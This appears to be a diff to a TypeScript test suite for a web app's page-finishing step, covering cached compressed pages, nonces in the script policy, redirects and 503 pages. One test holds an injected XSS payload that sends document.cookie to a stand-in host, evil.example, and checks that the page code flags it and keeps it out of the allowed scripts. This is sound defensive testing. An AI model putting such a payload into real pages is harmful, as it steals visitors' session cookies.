@@ -63,8 +63,8 @@ describe('finishing a page', () => {
     const { finishPage, pageCache, refusals, context } = setUp();
     const fill = pageCache.startFill('/about');
     const plan: PagePlan = { renderNonce: 'render-1', policyNonce: '', sharing: 'shared', fill };
-    const { response } = exchange('br');
-    const body = finishPage(response, context(), plan, page('render-1')).toString();
+    const { request, response } = exchange('br');
+    const body = finishPage(request, response, context(), plan, page('render-1')).toString();
 
     expect(body).toContain(`<style data-inlined-from="${CSS_HREF}">.used{color:red}</style>`);
     expect(body).not.toContain('.unused');
@@ -90,11 +90,37 @@ describe('finishing a page', () => {
     expect(brotliDecompressSync(sent.bytes()).toString()).toBe(body);
   });
 
+  it('a page rendered again as the same bytes is sent as the copy made the time before', async () => {
+    let now = 1_000_000;
+    const { finishPage, context } = setUp();
+    const pageCache = createPageCache({ lastChangeAt: () => 0, now: () => now });
+    const render = () => {
+      const { request, response } = exchange('br');
+      const plan: PagePlan = {
+        renderNonce: 'render-1',
+        policyNonce: '',
+        sharing: 'shared',
+        fill: pageCache.startFill('/a'),
+      };
+      return { response, sent: finishPage(request, response, context(), plan, page('render-1')) };
+    };
+    const first = render();
+    // The first render goes out as it is (the compression middleware compresses it on the fly).
+    expect(first.response.hasHeader('content-encoding')).toBe(false);
+    await expect.poll(() => pageCache.get('/a')?.compressed.br !== undefined).toBe(true);
+    const copy = pageCache.get('/a')?.compressed.br;
+    now += 61_000;
+    const again = render();
+    expect(again.response.getHeader('content-encoding')).toBe('br');
+    expect(again.sent).toBe(copy);
+    expect(brotliDecompressSync(again.sent).equals(first.sent)).toBe(true);
+  });
+
   it('a page for one visitor: its policy names the nonce, and nothing keeps it', () => {
     const { finishPage, refusals, context } = setUp();
-    const { response } = exchange();
+    const { request, response } = exchange();
     const plan: PagePlan = { renderNonce: 'visitor-1', policyNonce: 'visitor-1', sharing: undefined };
-    finishPage(response, context(), plan, page('visitor-1'));
+    finishPage(request, response, context(), plan, page('visitor-1'));
     expect(scriptSources(response)).toEqual(['script-src', "'self'", "'nonce-visitor-1'"]);
     expect(response.hasHeader('x-page-cache')).toBe(false);
     expect(refusals).toEqual([]);
@@ -105,7 +131,7 @@ describe('finishing a page', () => {
     const visitor = visitorValues('a-test-secret-that-is-long-enough-0123456789');
     const form = `<form><input value="${PLACEHOLDERS.formStartToken}"><input value="${PLACEHOLDERS.idempotencyKey}"></form>`;
     const fill = pageCache.startFill('/order');
-    const { response } = exchange();
+    const { request, response } = exchange();
     const plan: PagePlan = {
       renderNonce: PLACEHOLDERS.nonce,
       policyNonce: visitor.nonce,
@@ -113,7 +139,7 @@ describe('finishing a page', () => {
       visitor,
       fill,
     };
-    const sent = finishPage(response, context(), plan, page(PLACEHOLDERS.nonce, form)).toString();
+    const sent = finishPage(request, response, context(), plan, page(PLACEHOLDERS.nonce, form)).toString();
     expect(sent).toContain(visitor.formStartToken);
     expect(sent).toContain(`nonce="${visitor.nonce}"`);
     expect(scriptSources(response)).toContain(`'nonce-${visitor.nonce}'`);
@@ -140,12 +166,12 @@ describe('finishing a page', () => {
   it('a redirect: a line with the link instead of Next.js’s page, nothing that runs, kept for a minute', () => {
     const { finishPage, sendKeptPage, pageCache, context } = setUp();
     const fill = pageCache.startFill('/products');
-    const { response } = exchange();
+    const { request, response } = exchange();
     response.statusCode = 307;
     response.setHeader('Location', '/products/fish-seed?a=1&b="2"');
     response.setHeader('Cache-Control', 's-maxage=3600, stale-while-revalidate=31532400');
     const plan: PagePlan = { renderNonce: 'r3', policyNonce: '', sharing: 'shared', fill };
-    const body = finishPage(response, context(), plan, page('r3')).toString();
+    const body = finishPage(request, response, context(), plan, page('r3')).toString();
     expect(body).toContain('<a href="/products/fish-seed?a=1&amp;b=&quot;2&quot;">');
     expect(body).not.toContain('<script');
     expect(scriptSources(response)).toEqual(['script-src', "'self'"]);
@@ -167,11 +193,11 @@ describe('finishing a page', () => {
 
   it('a redirect rendered afresh names its address once (Next.js sets it twice then)', () => {
     const { finishPage, context } = setUp();
-    const { response } = exchange();
+    const { request, response } = exchange();
     response.statusCode = 307;
     response.setHeader('Location', ['/products/fish-seed', '/products/fish-seed']);
     const plan: PagePlan = { renderNonce: 'r4', policyNonce: '', sharing: 'shared' };
-    const body = finishPage(response, context(), plan, page('r4')).toString();
+    const body = finishPage(request, response, context(), plan, page('r4')).toString();
     expect(response.getHeader('location')).toBe('/products/fish-seed');
     expect(body).toContain('<a href="/products/fish-seed">');
   });
@@ -179,9 +205,10 @@ describe('finishing a page', () => {
   it('a page that met an unreachable database: 503, its request id, kept by nobody', () => {
     const { finishPage, pageCache, context } = setUp();
     const fill = pageCache.startFill('/blog');
-    const { response } = exchange();
+    const { request, response } = exchange();
     const unavailable = { ...context(), databaseUnavailable: true };
     const body = finishPage(
+      request,
       response,
       unavailable,
       { renderNonce: 'r', policyNonce: '', sharing: 'shared', fill },
@@ -197,9 +224,15 @@ describe('finishing a page', () => {
 
   it('tells of an inline script that is neither the render’s nor the framework’s', () => {
     const { finishPage, refusals, context } = setUp();
-    const { response } = exchange();
+    const { request, response } = exchange();
     const injected = '<script>fetch("//evil.example/?c="+document.cookie)</script>';
-    finishPage(response, context(), { renderNonce: 'r2', policyNonce: '', sharing: 'shared' }, page('r2', injected));
+    finishPage(
+      request,
+      response,
+      context(),
+      { renderNonce: 'r2', policyNonce: '', sharing: 'shared' },
+      page('r2', injected),
+    );
     expect(refusals).toEqual([1]);
     expect(scriptSources(response)).not.toContain(sha('fetch("//evil.example/?c="+document.cookie)'));
   });
